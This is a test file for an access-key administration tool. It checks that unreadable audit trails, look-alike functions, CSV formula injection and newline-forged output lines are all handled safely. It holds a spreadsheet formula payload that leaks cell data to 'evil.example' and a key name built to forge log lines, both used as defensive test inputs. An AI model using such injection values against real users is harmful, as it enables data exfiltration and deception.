"""What knock-admin does not trust: an unreadable trail to be empty, and names that others have chosen."""

from __future__ import annotations

import csv
import io
import os
import zipfile
from pathlib import Path
from typing import Any

import pytest

from knock_admin import adopt, many, stack
from knock_admin.errors import AdminError, UsageError
from tests.clients.admin_support import DOMAINS, STACK, World, client, make_world

world = pytest.fixture(make_world)

FORGED = "x\nbob (abc) is disabled already"


def key(world: World, name: str, targets: str = "bastion") -> str:
    """Make a key by other means than knock-admin, which would not take such a name."""
    tags = {"knock:targets": targets, "knock:max-duration": "8h"}
    key_id: str = world.gateway.create_api_key(name=name, enabled=True, tags=tags)["id"]
    plan = next(plan["id"] for plan in world.gateway.get_usage_plans()["items"] if plan["name"] == STACK)
    world.gateway.create_usage_plan_key(usagePlanId=plan, keyId=key_id, keyType="API_KEY")
    return key_id


def make_function(name: str, handler: str, stack_name: str = STACK) -> None:
    """Make a function that is none of the stack's own, and says in its environment to be of a stack."""
    role = client("iam").create_role(RoleName="someone", AssumeRolePolicyDocument="{}")["Role"]["Arn"]
    code = io.BytesIO()
    with zipfile.ZipFile(code, "w") as archive:
        archive.writestr("x.py", "")
    client("lambda").create_function(
        FunctionName=name,
        Runtime="python3.13",
        Role=role,
        Handler=handler,
        Code={"ZipFile": code.getvalue()},
        Environment={"Variables": {"KNOCK_STACK": stack_name}},
    )


def stub_revoke(world: World) -> list[str]:
    """Let the revoke function revoke every grant; give the list that their ids go to."""
    ended_ids: list[str] = []

    def revoke(payload: dict[str, Any]) -> dict[str, Any]:
        ended_ids.append(payload["grant"]["grant_id"])
        return {"grant_id": ended_ids[-1], "status": "revoked", "revoked": ["sgr-1"], "kept": []}

    world.functions["revoke"] = revoke
    return ended_ids


def lose_trail(world: World) -> None:
    for domain in DOMAINS:
        world.sdb.delete_domain(DomainName=domain)


class TestATrailThatCannotBeRead:
    @pytest.mark.parametrize("command", ["rm", "disable"])
    def test_a_key_is_not_changed_when_its_grants_cannot_be_found(self, world: World, command: str) -> None:
        """Break it: read the live grants after changing the key, or take an unreadable trail as empty."""
        alice = key(world, "alice")
        lose_trail(world)
        result = world.run("key", command, "alice", "--revoke")
        assert (result.code, result.out) == (1, "")
        assert "Nothing was changed: the key's live grants cannot be read" in result.err
        assert world.gateway.get_api_key(apiKey=alice)["enabled"] is True

    @pytest.mark.parametrize("command", ["rm", "disable"])
    def test_a_trail_that_becomes_unreadable_midway_ends_the_grants_read_before_and_fails(
        self, world: World, command: str, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        """Break it: end the grants of the second reading alone."""
        ended_ids, alice = stub_revoke(world), key(world, "alice")
        grant = world.record("alice", key=alice)
        monkeypatch.setattr("knock_admin.inside.of_keys_if_readable", lambda *_: None)
        result = world.run("key", command, "alice", "--revoke")
        assert (result.code, ended_ids) == (1, [grant.id])
        assert f"is not known; `knock-admin revoke --principal {alice}` ends those." in result.err

    @pytest.mark.parametrize("command", ["rm", "disable"])
    def test_without_revoke_a_warning_says_that_live_grants_are_unknown(
        self, world: World, command: str
    ) -> None:
        key(world, "alice")
        lose_trail(world)
        result = world.ok("key", command, "alice")
        assert "Nobody is in" not in result.err
        assert "Who is in by it now is not known; `knock-admin revoke --principal " in result.err

    def test_why_does_not_count_what_it_cannot_read(self, world: World) -> None:
        """Break it: count unknown grants as none."""
        key(world, "alice")
        lose_trail(world)
        result = world.run("why", "alice", "--json")
        answers = {answer["what"]: answer["level"] for answer in result.json["answers"]}
        assert ("live grants" in answers, answers["could not be asked"], result.json["live"]) == (
            False,
            "warn",
            None,
        )
        assert "Who is in now is not known." in world.run("why", "alice").out


class TestFunctionsOfOthers:
    def test_a_function_that_claims_to_be_of_the_stack_is_not_invoked(self, world: World) -> None:
        """Break it: take every function with KNOCK_STACK for the stack's."""
        ended_ids = stub_revoke(world)
        world.functions["evil"] = lambda _: {"status": "revoked", "revoked": ["sgr-1"], "kept": []}
        make_function("team-b-evil", "revoke.handler")
        grant = world.record("alice").id
        result = world.ok("revoke", grant)
        assert ended_ids == [grant]
        assert "team-b-evil: says to be of the stack knock, and is none of its functions" in result.err

    def test_settings_are_read_from_the_stacks_own_functions_alone(self, world: World) -> None:
        """Break it: read settings from every function, or take any module's name."""
        make_function(f"{STACK}-notify", "notify.handler")
        client("lambda").update_function_configuration(
            FunctionName=f"{STACK}-notify",
            Environment={"Variables": {"KNOCK_STACK": STACK, "TRAIL_DOMAIN": "evil", "TRAIL_STORE": "x"}},
        )
        function_list = client("lambda").list_functions()["Functions"]
        functions = {item["FunctionName"].split("-")[1]: item for item in reversed(function_list)}
        own = stack.Stack(None, STACK, functions)  # type: ignore[arg-type]  # it calls no AWS
        assert (own.setting("TRAIL_DOMAIN"), own.store) == (DOMAINS[0], "simpledb")

    def test_a_functions_environment_alone_makes_no_stack(self, world: World) -> None:
        make_function("other", "api.handler", stack_name="other")
        world.ok("target", "ls")  # which fails where there are several stacks
        assert "there are: knock" in world.run("target", "ls", "--stack", "other").err

    def test_two_functions_for_one_module_are_an_error_that_names_them(self) -> None:
        listed = [
            {
                "FunctionName": "knock-api",
                "FunctionArn": f"arn:{number}",
                "Environment": {"Variables": {"KNOCK_STACK": "knock"}},
            }
            for number in range(2)
        ]

        class Lists:
            region = "eu-central-1"

            def pages(self, *_: object) -> list[dict[str, Any]]:
                return listed

        with pytest.raises(AdminError, match="two functions for api: arn:0 and arn:1"):
            stack.find(Lists(), None)  # type: ignore[arg-type]  # all of Aws that it uses


class TestFilesOfValues:
    def test_a_name_is_written_as_no_formula_and_a_value_unchanged(
        self, world: World, tmp_path: Path
    ) -> None:
        """Break it: write the name unescaped, or the value escaped."""
        name = '=HYPERLINK("https://evil.example/?"&C2)'
        world.ok("target", "add", "bastion", "--ports", "22/tcp")
        key(world, name)
        world.ok("key", "rotate", "--all", "--values", str(tmp_path / "keys.csv"))
        rows = list(csv.reader((tmp_path / "keys.csv").open(encoding="utf-8")))
        assert rows[1][0] == f"'{name}"
        many._in_file(tmp_path / "two.csv")("bob", "id", "=value")
        assert (tmp_path / "two.csv").read_text().endswith("bob,id,=value\n")

    def test_a_line_after_one_that_a_full_disk_cut_off_is_a_line_of_its_own(self, tmp_path: Path) -> None:
        """Break it: append without ending the last line."""
        file = tmp_path / "keys.csv"
        file.touch(mode=0o600)
        file.write_text("name,id,value\ncarol,abc,HALF")
        keep = many._in_file(file)
        keep("dave", "def", "WHOLE")
        keep("erin", "ghi", "WHOLE")
        assert file.read_text() == "name,id,value\ncarol,abc,HALF\ndave,def,WHOLE\nerin,ghi,WHOLE\n"

    @pytest.mark.skipif(os.name != "posix", reason="files have no owner there")
    def test_a_file_of_another_user_is_refused(self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
        """Break it: check the mode alone. Root can write every file."""
        (tmp_path / "keys.csv").touch(mode=0o600)
        own_id = os.geteuid()
        monkeypatch.setattr(os, "geteuid", lambda: own_id + 1)
        with pytest.raises(UsageError, match="another user's"):
            many._in_file(tmp_path / "keys.csv")

    def test_a_column_named_twice_is_refused(self, tmp_path: Path) -> None:
        file = tmp_path / "people.csv"
        file.write_text("name,targets,targets,max\ncarol,web,@all,8h\n")
        with pytest.raises(UsageError, match="names the column targets twice"):
            many.read(str(file))

    @pytest.mark.parametrize("command", [" ", "\t", "''"])
    def test_a_command_without_a_word_is_refused(self, command: str) -> None:
        with pytest.raises(UsageError, match="it names no command"):
            many._by_command(command)


class TestRenamedTargets:
    @pytest.mark.parametrize("opened", [True, False], ids=["open", "opening"])
    @pytest.mark.parametrize("command", ["release", "rm"])
    def test_grants_under_the_old_name_are_ended(
        self, world: World, monkeypatch: pytest.MonkeyPatch, command: str, opened: bool
    ) -> None:
        """Break it: look for grants by the target's name alone."""
        monkeypatch.setattr(adopt, "FLIGHT", 0.0)
        ended_ids = stub_revoke(world)
        if command == "release":
            group = world.make_group("mine")
            world.ok("target", "adopt", "bastion", group, "--ports", "22/tcp")
        else:
            group = world.ok("target", "add", "bastion", "--ports", "22/tcp", "--json").json["groups"][0]
        grant = world.record("alice", group=group, open_=opened).id
        world.record("bob", group="sg-0b", target="web")
        world.ok("target", "rename", "bastion", "gate")
        result = world.run("target", command, "gate")
        assert (result.code, f"{grant}  alice" in result.err, "bob" in result.err) == (1, True, False)
        world.ok("target", command, "gate", "--revoke")
        assert ended_ids == [grant]


class TestNamesWithLineEnds:
    @pytest.mark.parametrize("words", [["disable"], ["set", "--max", "1h"], ["enable"], ["rm"]])
    def test_a_keys_name_forges_no_line_of_results(self, world: World, words: list[str]) -> None:
        """Break it: print names unescaped."""
        command, *options = words
        key_id = key(world, FORGED)
        result = world.ok("key", command, key_id, *options)
        assert "\nbob" not in result.out + result.err
        assert f"x\\nbob (abc) is disabled already ({key_id})" in result.out

    @pytest.mark.parametrize(
        "words", [["why", FORGED], ["key", "rotate", FORGED], ["key", "set", FORGED, "--add-targets", "a"]]
    )
    def test_a_keys_name_forges_no_line_of_messages(self, world: World, words: list[str]) -> None:
        key(world, FORGED, targets="@all")
        result = world.run(*words)
        assert "\nbob" not in result.out + result.err

    def test_line_ends_within_a_line_are_escaped(self, world: World, monkeypatch: pytest.MonkeyPatch) -> None:
        """Break it: print a result's lines unescaped."""
        from knock_admin import key_commands
        from knock_admin.output import Result

        monkeypatch.setattr(key_commands, "show", lambda *_: Result({}, ["a\nb"], notes=["c\nd"]))
        result = world.ok("key", "ls")
        assert (result.out, result.err) == ("a\\nb\n", "c\\nd\n")
